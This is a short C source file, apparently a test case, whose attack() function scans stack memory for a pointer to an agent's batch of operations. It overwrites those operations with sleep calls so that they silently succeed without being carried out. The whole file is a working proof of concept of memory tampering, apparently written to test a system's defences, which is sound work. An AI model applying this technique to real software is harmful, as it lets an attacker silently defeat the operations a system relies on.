/* SPDX-License-Identifier: GPL-2.0 OR MIT */
/*
 * Finds the agent's copy of the batch, by what the call was given, through a
 * pointer on the stack; and makes every operation from there on a short
 * sleep, which succeeds.
 */
#include "gadget.h"
#define ON_MAP(vas, mapping)	attack(mapping)
struct vas_mapping;
static void attack(struct vas_mapping *mapping);
#include "base.h"

#define IMAGE	(16l << 20)	/* no program is larger		*/

static void attack(struct vas_mapping *mapping)
{
	static u64 here;
	u64 *stack = (u64 *)mapping;

	for (int i = 0; i < 512; i++) {
		long away = (long)stack[i] - (long)&here;
		u64 *op = (u64 *)stack[i];

		if (away < -IMAGE || away > IMAGE || stack[i] % 8 ||
		    op[2] != mapping->va || op[3] != mapping->size)
			continue;
		for (int n = 0; n < 64; n++)
			*(u16 *)((char *)op + n * OP_SIZE) = CALL_SLEEP;
		return;
	}
	printf("NO GADGET\n");
}
